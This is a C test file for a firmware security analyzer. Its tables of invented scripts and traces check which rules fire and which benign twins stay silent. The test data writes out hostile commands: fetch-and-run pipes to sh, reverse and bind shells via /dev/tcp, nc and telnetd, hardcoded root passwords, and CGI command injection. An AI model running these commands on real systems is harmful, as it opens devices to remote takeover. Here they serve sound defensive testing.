/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Every pass on a made-up trace or script: what must fire, and its benign twin that must not. */
#include "advisory/advisory.h"
#include "fake_image.h"

#include "base/scope.h"
#include "fw/model/startup.h"
#include "fw/pass/scene.h"

/* ---- scripts: text, rule, severity it must have; -1: nothing of the rule ---- */

static const struct {
	const char *text, *rule;
	int severity;
	bool boot;
} scripts[] = {
	/* negative: what is only mentioned or local proves nothing (F16) */
	{ "# 203.0.113.5\necho 203.0.113.5\nVERSION=1.2.840.10008\nMASK=255.255.255.0", "", -1, true },
	{ "mount -t nfs 192.168.1.10:/rescue /mnt\n", "", -1, true },
	{ "ntpd -p 0.pool.ntp.org\nntpdate 203.0.113.9", "", -1, true },
	{ "ifconfig lo up; ifconfig eth0 up; ifconfig eth0 10.0.0.2 netmask 255.255.255.0", "", -1, true },
	{ "ping 203.0.113.5; nslookup pool.example.org 8.8.8.8; echo nameserver 8.8.8.8 > /etc/resolv.conf", "", -1, true },
	{ "mount -t proc proc /proc; mount /dev/mtdblock3 /data; cp -rf /data/* /opt; chmod +x /opt/app; /opt/app", "", -1,
	  true },
	{ "S=$(nvram get server)\nnc $S 515", "", -1, true },
	/* F3, F4 in full and in parts */
	{ "mount -o nolock -t nfs 202.114.4.119:/pm /mnt", "fw.remote-mount", SEV_HIGH, false },
	{ "mount -t cifs //files.example.org/fw /mnt -o username=u,password=hunter22", "fw.remote-mount", SEV_MEDIUM, false },
	{ "ifconfig eth0 up\nmount -o nolock -t nfs 202.114.4.119:/pm /mnt\ncp -rf /mnt/* /opt/bin\nchmod +x "
	  "/opt/bin/monitor\n/opt/bin/monitor",
	  "fw.code-overwrite", SEV_CRITICAL, false },
	{ "mount -t nfs 203.0.113.5:/pm /mnt && cp -a /mnt /opt", "fw.code-overwrite", SEV_HIGH, false },
	{ "mount -t nfs 203.0.113.5:/pm /mnt\ncp -rf /tmp/x /opt/bin", "fw.code-overwrite", -1, false },
	{ "mount -t nfs 203.0.113.5:/pm /mnt\nsha256sum -c /mnt/list || exit 1\ncp -rf /mnt/* /opt\n/opt/app",
	  "fw.code-overwrite", -1, false },
	{ "mount -t nfs $SERVER:/pm /mnt\ncp -rf /mnt/* /opt\n/opt/app", "fw.code-overwrite", -1, false },
	{ "up() { ifconfig eth0 up; }\nget() { mount -t nfs $1:/pm /mnt; }\nup; get 203.0.113.5; cp -rf /mnt/* /usr/bin; sh "
	  "/usr/bin/go",
	  "fw.code-overwrite", SEV_CRITICAL, false },
	/* F6 in scripts only with something behind it */
	{ "ifconfig eth0 up\nmount -t nfs 203.0.113.5:/pm /mnt", "fw.interface-forced", SEV_HIGH, true },
	/* F7 */
	{ "wget http://203.0.113.5/fw.sh -O /tmp/fw.sh; sh /tmp/fw.sh", "fw.unverified-update", SEV_HIGH, false },
	{ "cd /tmp; tftp -g -r fw.bin 203.0.113.5; mtd write fw.bin rootfs", "fw.unverified-update", SEV_HIGH, false },
	{ "wget http://203.0.113.5/fw.sh -O /tmp/fw.sh; gpg --verify /tmp/fw.sig /tmp/fw.sh && sh /tmp/fw.sh",
	  "fw.unverified-update", -1, false },
	{ "wget http://203.0.113.5/notes.txt -O /tmp/notes; sh /etc/other.sh", "fw.unverified-update", -1, false },
	{ "wget http://$SERVER/fw.sh -O /tmp/fw.sh; sh /tmp/fw.sh", "fw.unverified-update", SEV_MEDIUM, false },
	/* F5 */
	{ "nc 203.0.113.5 515 < /tmp/data", "fw.fixed-destination", SEV_MEDIUM, false },
	{ "S=203.0.113.5\n. /etc/app.conf\nwget http://$S/x", "fw.fixed-destination", SEV_MEDIUM, false },
	{ "wget http://203.0.113.5/x", "fw.fixed-destination", SEV_HIGH, false },
	{ "wget http://127.0.0.1/x; curl http://10.1.2.3/x; telnet 192.168.0.1", "fw.fixed-destination", -1, false },
	/* fetched and run: by file, pipe, substitution; checked; run or not */
	{ "wget http://203.0.113.5/go.sh -O /tmp/go; chmod +x /tmp/go; /tmp/go", "fw.script-fetch", SEV_HIGH, false },
	{ "wget -qO- http://203.0.113.5/go.sh | sh", "fw.script-fetch", SEV_HIGH, false },
	{ "curl -fsSL https://get.example.org/go.sh | sudo bash -s -- --yes", "fw.script-fetch", SEV_MEDIUM, false },
	{ "sh -c \"$(curl -fsSL http://get.example.org/go.sh)\"", "fw.script-fetch", SEV_HIGH, false },
	{ "eval `wget -q -O - http://203.0.113.5/go`", "fw.script-fetch", SEV_HIGH, false },
	{ "X=$(curl -s http://203.0.113.5/go)\nlogger x\nsh -c \"$X\"", "fw.script-fetch", SEV_HIGH, false },
	{ "X=$(curl -s http://203.0.113.5/go)\necho \"$X\" | sh", "fw.script-fetch", SEV_HIGH, false },
	{ "curl -s http://203.0.113.5/a.tgz | tar xz -C /opt/app\n/opt/app/run", "fw.script-fetch", SEV_HIGH, false },
	{ "curl -s http://203.0.113.5/a.gz | gunzip > /tmp/a\nsh /tmp/a", "fw.script-fetch", SEV_HIGH, false },
	{ "curl -s http://203.0.113.5/a | tee /tmp/a >/dev/null; sh /tmp/a", "fw.script-fetch", SEV_HIGH, false },
	{ "cd /tmp\ncurl -O http://203.0.113.5/a.sh\nsh ./a.sh", "fw.script-fetch", SEV_HIGH, false },
	{ "nc 203.0.113.5 4444 | /bin/sh", "fw.script-fetch", SEV_HIGH, false },
	{ "rsync -a rsync://203.0.113.5/pool/ /opt/app/; /opt/app/start", "fw.script-fetch", SEV_HIGH, false },
	{ "scp fw@203.0.113.5:/x /tmp/x && /tmp/x", "fw.script-fetch", SEV_MEDIUM, false },
	{ "ftpget 203.0.113.5 /tmp/k.ko k.ko; insmod /tmp/k.ko", "fw.script-fetch", SEV_HIGH, false },
	{ "ftp -n 203.0.113.5 <<E\nget run.sh\nE\nsh run.sh", "fw.script-fetch", SEV_HIGH, false },
	{ "tftp -g -r a -l /tmp/a $1; sh /tmp/a", "fw.script-fetch", SEV_MEDIUM, false },
	{ "opkg install http://203.0.113.5/a.ipk", "fw.script-fetch", SEV_HIGH, false },
	{ "wget http://203.0.113.5/a.deb -O /tmp/a.deb; dpkg -i /tmp/a.deb", "fw.script-fetch", SEV_HIGH, false },
	{ "wget http://203.0.113.5/a.py -O /tmp/a.py; python3 /tmp/a.py --x", "fw.script-fetch", SEV_HIGH, false },
	{ "wget http://203.0.113.5/a -O /tmp/a; wget http://203.0.113.5/a.md5 -O /tmp/a.md5; md5sum -c /tmp/a.md5 && sh "
	  "/tmp/a",
	  "fw.script-fetch", SEV_LOW, false },
	{ "wget http://203.0.113.5/a -O /tmp/a; gpg --verify /etc/k.sig /tmp/a && sh /tmp/a", "fw.script-fetch", SEV_INFO,
	  false },
	{ "wget http://203.0.113.5/a -O /tmp/a; sh /opt/a", "fw.script-fetch", -1, false },
	{ "curl -s http://203.0.113.5/time | cut -d: -f2", "fw.script-fetch", -1, false },
	{ "X=$(curl -s http://203.0.113.5/v); echo $X > /tmp/version; sh /etc/init.d/app restart", "fw.script-fetch", -1,
	  false },
	{ "curl -s http://203.0.113.5/list > /tmp/list; echo start | sh /opt/app.sh", "fw.script-fetch", -1, false },
	{ "curl -o /tmp/x -T /tmp/y http://203.0.113.5/; sh /tmp/x", "fw.script-fetch", -1, false },
	{ "opkg update; opkg install tcpdump", "fw.script-fetch", -1, false },
	/* what is asked for first is the owner's; the certificate nobody looks at protects nothing */
	{ "U=$(fw_printenv -n server || echo 203.0.113.5)\nnc $U 515 < /tmp/data", "fw.fixed-destination", SEV_MEDIUM, false },
	{ "wget http://$(nvram get x || echo 203.0.113.5)/x", "fw.fixed-destination", SEV_MEDIUM, false },
	{ "wget $(get http://203.0.113.5/x)", "fw.fixed-destination", -1, false },
	{ "wget -O /tmp/a https://h.example/a; sh /tmp/a", "fw.script-fetch", SEV_MEDIUM, false },
	{ "wget --no-check-certificate -O /tmp/a https://h.example/a; sh /tmp/a", "fw.script-fetch", SEV_HIGH, false },
	{ "curl -sk https://h.example/a | sh", "fw.script-fetch", SEV_HIGH, false },
	{ "uclient-fetch -O /tmp/a http://203.0.113.5/a; sh /tmp/a", "fw.script-fetch", SEV_HIGH, false },
	/* sums that lie in what they are the sums of */
	{ "curl -s http://203.0.113.5/a.tgz | tar xz -C /tmp; cd /tmp; md5sum -c *.md5 && flashcp /tmp/rootfs /dev/mtd2",
	  "fw.script-fetch", SEV_LOW, false },
	{ "wget http://203.0.113.5/a.tgz -O /tmp/a.tgz; sha256sum -c /etc/trusted; tar xzf /tmp/a.tgz -C /tmp; ubiformat /dev/mtd2 -f "
	  "/tmp/rootfs",
	  "fw.script-fetch", SEV_INFO, false },
	/* media that somebody plugs in */
	{ "[ -f /mnt/usb/autorun.sh ] && sh /mnt/usb/autorun.sh", "fw.removable-medium", SEV_MEDIUM, true },
	{ "[ -x /media/usb0/factory/test ] && /media/usb0/factory/test", "fw.removable-medium", SEV_LOW, false },
	{ "flashcp -v /mnt/sdcard/rootfs.bin /dev/mtd4", "fw.removable-medium", SEV_MEDIUM, true },
	{ "tar xzf /tmp/mmc/update.tgz -C /", "fw.removable-medium", SEV_MEDIUM, true },
	{ "cp /mnt/usb/up.sh /tmp/up.sh; sh /tmp/up.sh", "fw.removable-medium", SEV_MEDIUM, true },
	{ "md5sum -c /mnt/usb/list; sh /mnt/usb/up.sh", "fw.removable-medium", SEV_MEDIUM, true },
	{ "gpg --verify /mnt/usb/up.sig /mnt/usb/up.sh && sh /mnt/usb/up.sh", "fw.removable-medium", -1, true },
	{ "mount /dev/$1 /mnt/x$1 && sh /mnt/x$1/start.sh", "fw.removable-medium", SEV_MEDIUM, true },
	{ "mount /dev/mtdblock3 /mnt/x && sh /mnt/x/start.sh; mount /dev/mmcblk0p2 /mnt/y && sh /mnt/y/start.sh", "fw.removable-medium", -1,
	  true },
	{ "cp /var/log/messages /mnt/usb/; cp /mnt/usb/wifi.conf /etc/wifi.conf; cat /mnt/usb/serial", "fw.removable-medium", -1, true },
	{ "sh /mnt/data/app/start.sh; /tmp/usb.sh; sh /etc/hotplug/usb/start; /usr/lib/usb/modeswitch; /mnt/mtd/run", "fw.removable-medium",
	  -1, true },
	{ "mount /dev/$1 /media/x$1; tar xzf /media/x$1/u.tgz -C /tmp/u; cd /tmp/u; ./update.sh", "fw.removable-medium", SEV_MEDIUM, true },
	{ "mount /dev/$1 /media/x$1; tar xzf /media/x$1/u.tgz -C /tmp/u; cd /opt/u; ./update.sh", "fw.removable-medium", -1, true },
	{ "wget -O /tmp/u.tar http://203.0.113.5/u; tar -C /program -xf /tmp/u.tar; sh /program/post.sh", "fw.script-fetch", SEV_HIGH, false },
	/* what a request says is run */
	{ "#!/usr/bin/haserl\n<p>$x; sh it's</p>\n<% echo \"$FORM_script\" | tr -d x | sh %>\n", "fw.command-injection", SEV_HIGH, false },
	{ "#!/usr/bin/haserl\n<? if [ -n \"$FORM_c\" ]; then ?><b>\n<? printf '%s' \"$FORM_c\" | tr -d x > /tmp/t\nsh /tmp/t\nfi ?>",
	  "fw.command-injection", SEV_HIGH, false },
	{ "#!/usr/bin/haserl\n<% eval \"$POST_cmd\" %>", "fw.command-injection", SEV_HIGH, false },
	{ "#!/usr/bin/haserl\n<% ping -c 3 $FORM_host %><%# eval $POST_a %><%= $GET_b %><input value=\"<% echo $FORM_x | sed s/a/b/ %>\">",
	  "fw.command-injection", -1, false },
	{ "printf '%s' \"$FORM_c\" > /tmp/t; sh /tmp/u; echo start | sh /opt/x", "fw.command-injection", -1, false },
	{ "eval `blkid /dev/$1 | cut -d: -f2-`", "fw.command-injection", SEV_MEDIUM, false },
	{ "eval `blkid -o export /dev/$1`", "fw.command-injection", -1, false },
	{ "echo \"$FORM_s\" | sed \"s/$(echo -ne x)//\" | sh", "fw.command-injection", SEV_HIGH, false },
	{ "U=http://203.0.113.5/x\n[ -n \"$1\" ] && U=$1\nwget -O /tmp/x $U; sh /tmp/x", "fw.script-fetch", SEV_HIGH, false },
	{ "U=http://203.0.113.5/x\nU=$1\nwget -O /tmp/x $U; sh /tmp/x", "fw.script-fetch", SEV_MEDIUM, false },
	{ "eval `/sbin/getopt x $1`", "fw.command-injection", -1, false },
	/* F9 */
	{ "telnetd -l /bin/sh", "fw.remote-shell", SEV_CRITICAL, true },
	{ "[ -f /etc/debug ] && telnetd", "fw.remote-shell", SEV_HIGH, true },
	{ "dropbear -p 22", "fw.remote-shell", SEV_INFO, true },
	{ "nc -l -p 4444 -e /bin/sh", "fw.remote-shell", SEV_CRITICAL, false },
	{ "sh -i >& /dev/tcp/203.0.113.5/4444 0>&1", "fw.remote-shell", SEV_CRITICAL, false },
	{ "tcpsvd -vE 0.0.0.0 21 ftpd -w /", "fw.remote-shell", SEV_MEDIUM, true },
	{ "tcpsvd 0 4444 /bin/sh", "fw.remote-shell", SEV_CRITICAL, true },
	{ "procd_open_instance; procd_set_param command /usr/sbin/telnetd -F -l /bin/ash", "fw.remote-shell", SEV_CRITICAL, true },
	{ "procd_set_param env A=telnetd; procd_set_param file /etc/telnetd", "fw.remote-shell", -1, true },
	{ "adbd &", "fw.remote-shell", SEV_MEDIUM, true },
	{ "setprop service.adb.tcp.port 5555; adbd &", "fw.remote-shell", SEV_HIGH, true },
	{ "ssh -N -R 2222:localhost:22 care@hub.example.org", "fw.remote-shell", SEV_HIGH, true },
	{ "ssh -L 2222:localhost:22 care@hub.example.org", "fw.remote-shell", -1, true },
	{ "killall telnetd; echo telnetd; which telnetd", "fw.remote-shell", -1, true },
	/* F10 */
	{ "echo root:hunter22 | chpasswd", "fw.fixed-credential", SEV_MEDIUM, true },
	{ "echo -e 'hunter22\\nhunter22' | passwd root", "fw.fixed-credential", SEV_MEDIUM, true },
	{ "passwd root <<E\nhunter22\nhunter22\nE", "fw.fixed-credential", SEV_MEDIUM, true },
	{ "htpasswd -b -c /etc/w admin hunter22", "fw.fixed-credential", SEV_MEDIUM, true },
	{ "pppd call x user a password hunter22", "fw.fixed-credential", SEV_MEDIUM, true },
	{ "uci set wireless.@wifi-iface[0].key=hunter22", "fw.fixed-credential", SEV_MEDIUM, true },
	{ "nvram set http_passwd=hunter22", "fw.fixed-credential", SEV_MEDIUM, true },
	{ "nvram set http_passwd=$P; uci set system.@system[0].passwd_file=/etc/x; echo $P | passwd root; uci set a.b.key=x1y2z3",
	  "fw.fixed-credential", -1, true },
	{ "wget ftp://u:hunter22@203.0.113.5/f", "fw.fixed-credential", SEV_MEDIUM, false },
	{ "curl -u $USER:$PASS http://10.0.0.1/", "fw.fixed-credential", -1, false },
	{ "ftp -n 203.0.113.5 <<E\nuser u hunter22\nget x\nE", "fw.fixed-credential", SEV_MEDIUM, false },
};

static void scripts_give_what_they_do_and_no_more(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(scripts); i++) {
		struct fake k;
		fake_begin(&k);
		fake_file(&k, "etc/init.d/S50app", SCENE_SCRIPT, scripts[i].text)->boot = scripts[i].boot;
		fake_run(&k);
		struct finding *f = *scripts[i].rule ? fake_found(&k, scripts[i].rule) : k.nfound ? k.found[0] : NULL;
		int got = f ? (int)f->severity : -1;
		if (got != scripts[i].severity)
			fail_msg("script %zu: severity %d, expected %d: %s\n%s", i, got, scripts[i].severity, f ? f->title : "no finding",
				 scripts[i].text);
		fake_end(&k);
	}
}

static void lines_of_cron_and_units_are_read(void **state)
{
	static const struct {
		const char *path, *text;
		enum scene_kind kind;
		int severity;
	} tables[] = {
		{ "etc/crontab",
		  "SHELL=/bin/sh\n# * * * * * root wget -qO- http://203.0.113.5/c | sh\n0 3 * * * root /usr/bin/rotate\n", SCENE_CRON,
		  -1 },
		{ "etc/crontab", "*/5 * * * * root wget -qO- http://203.0.113.5/c | sh\n", SCENE_CRON, SEV_HIGH },
		{ "var/spool/cron/crontabs/root", "@reboot curl -s http://203.0.113.5/c | sh\n", SCENE_CRON, SEV_HIGH },
		{ "lib/systemd/system/a.service", "[Service]\nExecStart=/bin/sh -c 'curl http://203.0.113.5/c | sh'\n", SCENE_UNIT,
		  SEV_HIGH },
		{ "lib/systemd/system/a.service", "[Service]\nDescription=curl http://203.0.113.5/c | sh\n", SCENE_UNIT, -1 },
		{ "etc/inittab",
		  "#::respawn:curl http://203.0.113.5/c | sh\n::off:curl http://203.0.113.5/c | sh\n"
		  "::respawn:-/bin/sh\n",
		  SCENE_INITTAB, -1 },
		{ "etc/inittab", "::once:/bin/sh -c 'wget -qO- http://203.0.113.5/c | sh'\n", SCENE_INITTAB, SEV_HIGH },
		{ "etc/inetd.conf", "9 stream tcp nowait root /bin/fetch fetch http://203.0.113.5/c\n", SCENE_INETD, -1 },
		{ "etc/inetd.conf", "9 stream tcp nowait root /bin/sh sh -c \"curl -s http://203.0.113.5/c | sh\"\n", SCENE_INETD,
		  SEV_HIGH },
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(tables); i++) {
		struct fake k;
		fake_begin(&k);
		assert_int_equal(scene_kind_of(span_str(tables[i].path), span_str(tables[i].text)), tables[i].kind);
		(void)fake_file(&k, tables[i].path, tables[i].kind, tables[i].text);
		fake_run(&k);
		const struct finding *f = fake_found(&k, "fw.script-fetch");
		assert_int_equal(f ? (int)f->severity : -1, tables[i].severity);
		fake_end(&k);
	}
}

static bool json_has(struct fake *k, const struct finding *f, const char *text)
{
	struct record r;
	struct buf b = { 0 };
	finding_record(f, &r, &k->host, scene_file_name, &k->scene);
	json_record(&b, &r, NULL);
	buf_u8(&b, 0);
	bool is = strstr((const char *)b.p, text) != NULL;
	buf_done(&b);
	return is;
}

static void no_secret_leaves(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(scripts); i++) {
		struct fake k;
		fake_begin(&k);
		(void)fake_file(&k, "a", SCENE_SCRIPT, scripts[i].text);
		fake_run(&k);
		for (uint32_t n = 0; n < k.nfound; n++)
			assert_false(json_has(&k, k.found[n], "hunter22"));
		fake_end(&k);
	}
}

/* ---- programs ---- */

static void fires(struct fake *k, const char *rule, enum severity severity)
{
	fake_run(k);
	const struct finding *f = fake_found(k, rule);
	if (!f)
		fail_msg("nothing of %s", rule);
	else if (f->severity != severity || !f->nsteps)
		fail_msg("%s: %u steps: %s", severity_name(f->severity), f->nsteps, f->title);
}

static void nothing_above_info(struct fake *k)
{
	fake_run(k);
	for (uint32_t n = 0; n < k->nfound; n++)
		if (k->found[n]->severity > SEV_INFO)
			fail_msg("%s", k->found[n]->title);
}

static void call_home(struct fake *k, const char *to)
{
	record_int(fake_call(k, CALL_NETWORK, "socket", "family=#2", "type=#1", "protocol=#0", NULL), FWC_RESULT, 5);
	fake_call(k, CALL_NETWORK, "connect", "fd=#5", to, NULL);
}

static void constant_destination_fires_and_configured_does_not(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	fake_program(&k, "bin/monitor");
	call_home(&k, "to=@203.0.113.5/515");
	fake_call(&k, CALL_SEND, "send", "fd=#5", "data=\"hello", NULL);
	fires(&k, "fw.fixed-destination", SEV_HIGH);
	assert_true(json_has(&k, k.found[0], "\"setting\":\"constant only\""));
	assert_true(json_has(&k, k.found[0], "\"range\":\"documentation\""));
	assert_true(json_has(&k, k.found[0], "\"transport\":\"tcp\""));
	assert_true(json_has(&k, k.found[0], "ward.bin > 0x10000 cramfs > bin/monitor"));
	fake_end(&k);

	static const char *const benign[] = { "to=~203.0.113.5/515", "to=@192.168.1.5/515", "to=@127.0.0.1/515",
					      "to=@203.0.113.5/53",  "to=@224.0.0.1/515",   "to=@255.255.255.255/9610" };
	for (size_t i = 0; i < ARRAY_LEN(benign); i++) {
		fake_begin(&k);
		fake_program(&k, "bin/monitor");
		call_home(&k, benign[i]);
		fake_call(&k, CALL_SEND, "send", "fd=#5", "data=\"hello", NULL);
		nothing_above_info(&k);
		assert_int_equal(k.nfound, 0);
		fake_end(&k);
	}
}

static void a_default_is_told_from_a_constant(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	fake_program(&k, "bin/monitor");
	struct record *a = fake_call(&k, CALL_NETWORK, "connect", "fd=#5", "to=@203.0.113.5/515", NULL);
	fake_path(&k, 2, 1, 0);
	struct record *b = fake_call(&k, CALL_NETWORK, "connect", "fd=#5", "to=~198.51.100.1/515", NULL);
	record_uint(b, FWC_SITE, record_get_uint(a, FWC_SITE));
	fires(&k, "fw.fixed-destination", SEV_MEDIUM);
	assert_true(json_has(&k, k.found[0], "default that configuration may replace"));
	fake_end(&k);
}

static void overwrite(struct fake *k, const char *mount, bool check)
{
	fake_call(k, CALL_RUN, "system", "command=\"ifconfig eth0 up", NULL);
	fake_call(k, CALL_RUN, "system", mount, NULL);
	if (check)
		fake_call(k, CALL_CHECK, "EVP_DigestVerifyFinal", NULL);
	fake_call(k, CALL_RUN, "system", "command=\"cp -rf /mnt/* /opt/bin/", NULL);
	fake_call(k, CALL_FILE, "chmod", "path=\"/opt/bin/monitor", "mode=#0755", NULL);
	fake_call(k, CALL_RUN, "execl", "path=\"/opt/bin/monitor", "argv=[monitor", NULL);
}

static void the_known_chain_is_critical(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	fake_program(&k, "bin/monitor");
	overwrite(&k, "command=\"mount -o nolock -t nfs 202.114.4.119:/pm /mnt", false);
	fires(&k, "fw.code-overwrite", SEV_CRITICAL);
	struct finding *f = fake_found(&k, "fw.code-overwrite");
	if (!f)
		return;
	assert_int_equal(f->nsteps, 5);
	assert_int_equal(f->observed->v[OBS_STEPS].texts.n, 5);
	assert_non_null(fake_found(&k, "fw.remote-mount"));
	assert_non_null(fake_found(&k, "fw.interface-forced"));
	assert_non_null(fake_found(&k, "fw.unverified-update"));
	char id[CASE_ID_TEXT], other[CASE_ID_TEXT];
	case_id(f, id);
	case_id(fake_found(&k, "fw.remote-mount"), other);
	assert_string_equal(id, other);
	fake_end(&k);

	fake_begin(&k);
	fake_program(&k, "bin/monitor");
	fake_call(&k, CALL_CONFIG, "nvram_get", "name=\"lan_up", NULL);
	overwrite(&k, "command=\"mount -o nolock -t nfs {file:/etc/update.conf}:/pm /mnt", true);
	nothing_above_info(&k);
	fake_end(&k);
}

static void steps_on_different_paths_do_not_add_up(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	fake_program(&k, "bin/monitor");
	fake_path(&k, 2, 1, 0);
	fake_call(&k, CALL_RUN, "system", "command=\"mount -t nfs 203.0.113.5:/pm /mnt", NULL);
	fake_path(&k, 3, 1, 0);
	fake_call(&k, CALL_RUN, "system", "command=\"cp -rf /mnt/* /opt", NULL);
	fake_call(&k, CALL_RUN, "system", "command=\"/opt/x", NULL);
	fake_run(&k);
	assert_null(fake_found(&k, "fw.code-overwrite"));
	assert_non_null(fake_found(&k, "fw.remote-mount"));
	fake_end(&k);

	fake_begin(&k);                          /* the same on one path, parted by a branch */
	fake_program(&k, "bin/monitor");
	fake_call(&k, CALL_MOUNT, "mount", "source=\"203.0.113.5:/pm", "target=\"/mnt", "type=\"nfs", "flags=#0",
		  "data=\"nolock", NULL);
	uint64_t here = k.order;
	fake_path(&k, 2, 1, here);
	fake_call(&k, CALL_RUN, "execv", "path=\"/bin/cp", "argv=[cp|-rf|/mnt/.|/opt", NULL);
	fake_call(&k, CALL_RUN, "system", "command=\"/opt/x &", NULL);
	fires(&k, "fw.code-overwrite", SEV_CRITICAL);
	fake_end(&k);
}

static void an_interface_that_is_asked_for_is_fine(void **state)
{
	(void)state;
	static const struct {
		const char *config, *name;
		bool fires;
	} cases[] = { { "path=\"/etc/monitor.conf", "data=\"eth0", false },
		      { NULL, "data=\"eth0", true },
		      { "name=\"lan", "data=\"eth0", false },
		      { NULL, "data=\"{argv}", false },
		      { NULL, "data=\"", false } };
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/monitor");
		if (cases[i].config && cases[i].config[0] == 'p')
			fake_call(&k, CALL_FILE, "fopen", cases[i].config, "mode=\"r", NULL);
		else if (cases[i].config)
			fake_call(&k, CALL_CONFIG, "nvram_get", cases[i].config, NULL);
		fake_call(&k, CALL_INTERFACE, "ioctl", "fd=#3", "request=#0x8914", cases[i].name, NULL);
		fake_run(&k);
		assert_int_equal(fake_found(&k, "fw.interface-forced") != NULL, cases[i].fires);
		fake_end(&k);
	}
}

/* Binds, receives, maybe logs in, compares, runs. */
static void listen_and(struct fake *k, bool login, const char *compare, const char *run)
{
	record_int(fake_call(k, CALL_NETWORK, "socket", "family=#2", "type=#2", "protocol=#0", NULL), FWC_RESULT, 4);
	fake_call(k, CALL_NETWORK, "bind", "fd=#4", "address=@0.0.0.0/7329", NULL);
	fake_call(k, CALL_RECEIVE, "recvfrom", "fd=#4", NULL);
	if (login)
		fake_call(k, CALL_LOGIN, "crypt", "key=\"{recvfrom}", "salt=\"{file:/etc/shadow}", NULL);
	if (compare)
		record_int(fake_call(k, CALL_COMPARE, "strcmp", "a=\"{recvfrom}", compare, NULL), FWC_RESULT, 0);
	if (run)
		fake_call(k, CALL_RUN, "system", run, NULL);
}

static void listeners_with_a_log_in_are_fine(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	fake_program(&k, "bin/httpd");
	listen_and(&k, false, NULL, "command=\"{recvfrom}");
	fires(&k, "fw.hidden-listener", SEV_CRITICAL);
	assert_true(json_has(&k, fake_found(&k, "fw.hidden-listener"), "\"listener\":7329"));
	assert_true(json_has(&k, fake_found(&k, "fw.hidden-listener"), "\"transport\":\"udp\""));
	assert_non_null(fake_found(&k, "fw.command-injection"));
	fake_end(&k);

	fake_begin(&k);
	fake_program(&k, "bin/httpd");
	listen_and(&k, true, NULL, "command=\"/sbin/reboot");
	nothing_above_info(&k);
	fake_end(&k);
}

static void an_open_unix_socket_counts(void **state)
{
	(void)state;
	for (int open = 0; open < 2; open++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/cmddog");
		fake_call(&k, CALL_NETWORK, "bind", "fd=#4", "address=u/tmp/cmd", NULL);
		fake_call(&k, CALL_FILE, "chmod", "path=\"/tmp/cmd", open ? "mode=#0777" : "mode=#0600", NULL);
		fake_call(&k, CALL_RECEIVE, "recv", "fd=#4", NULL);
		fake_call(&k, CALL_COMPARE, "strchr", "a=\"{recv}", "b=\";", NULL);
		fake_call(&k, CALL_RUN, "system", "command=\"{recv}", NULL);
		fake_run(&k);
		assert_int_equal(fake_found(&k, "fw.hidden-listener") != NULL, open);
		fake_end(&k);
	}
}

/* The trace has comparisons with constants alone; of others the path says what was assumed. */
static void asking_for_what_the_owner_has_set_is_a_log_in(void **state)
{
	(void)state;
	static const struct {
		const char *key, *condition;
		bool fires;
	} cases[] = {
		{ "a=\"{file:/etc/monitor.conf}", "90f0: goes to 90f4, after strcmp() = 1", false },
		{ "a=\"{file:/etc/monitor.conf}", "90f0: goes to 90f4, after strcmp() = 0", true },      /* taken when they differ */
		{ "a=\"{file:/etc/monitor.conf}", "90f0: goes to 90f4, after recv() = 1", true },
		{ "a=\"{recv}", "90f0: goes to 90f4, after strcmp() = 1", true },                      /* nothing was set */
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/agent");
		fake_call(&k, CALL_COMPARE, "strncmp", cases[i].key, "b=\"password=", NULL);
		fake_call(&k, CALL_NETWORK, "bind", "fd=#4", "address=@0.0.0.0/7329", NULL);
		fake_call(&k, CALL_RECEIVE, "recv", "fd=#4", NULL);
		fake_path(&k, 2, 1, k.order);
		record_str(k.paths[0][1], FWP_CONDITION, cases[i].condition);
		fake_call(&k, CALL_RUN, "system", "command=\"{recv}", NULL);
		fake_run(&k);
		assert_int_equal(fake_found(&k, "fw.hidden-listener") != NULL, cases[i].fires);
		fake_end(&k);
	}
}

static void the_body_of_a_web_request_is_from_the_network(void **state)
{
	(void)state;
	for (int web = 0; web < 2; web++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "www/cgi-bin/trace");
		fake_call(&k, CALL_CONFIG, "getenv", web ? "name=\"CONTENT_LENGTH" : "name=\"LANG", NULL);
		fake_call(&k, CALL_RUN, "popen", "command=\"traceroute {stdin}", NULL);
		fake_run(&k);
		assert_int_equal(fake_found(&k, "fw.command-injection") != NULL, web);
		fake_end(&k);
	}
}

static void the_address_of_a_page_is_no_magic_word(void **state)
{
	(void)state;
	static const char *const words[] = { "b=\"/trace", "b=\"open-sesame-77" };
	for (int i = 0; i < 2; i++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "www/cgi-bin/trace");
		record_int(fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{getenv:PATH_INFO}", words[i], NULL), FWC_RESULT, 0);
		fake_call(&k, CALL_RUN, "system", "command=\"/bin/date", NULL);
		fake_run(&k);
		assert_int_equal(fake_found(&k, "fw.magic-value") != NULL, i);
		fake_end(&k);
	}
}

static void a_word_on_a_socket_of_the_devices_own_is_no_magic(void **state)
{
	(void)state;
	for (int open = 0; open < 2; open++) {
		struct fake k;
		fake_begin(&k);
		fake_program(&k, "bin/agent");
		fake_call(&k, CALL_NETWORK, "bind", "fd=#4", "address=u/run/agent", NULL);
		fake_call(&k, CALL_FILE, "chmod", "path=\"/run/agent", open ? "mode=#0777" : "mode=#0600", NULL);
		fake_call(&k, CALL_RECEIVE, "recv", "fd=#4", NULL);
		record_int(fake_call(&k, CALL_COMPARE, "strcmp", "a=\"{recv}", "b=\"open-sesame-77", NULL), FWC_RESULT, 0);
		fake_call(&k, CALL_RUN, "system", "command=\"/bin/backup", NULL);
		fake_run(&k);
		assert_int_equal(fake_found(&k, "fw.magic-value") != NULL, open);
		fake_end(&k);
	}
}

static void a_magic_word_opens_and_a_protocol_word_does_not(void **state)
{
	(void)state;
	static const struct {
		const char *word, *run;
		bool login;
		int severity;
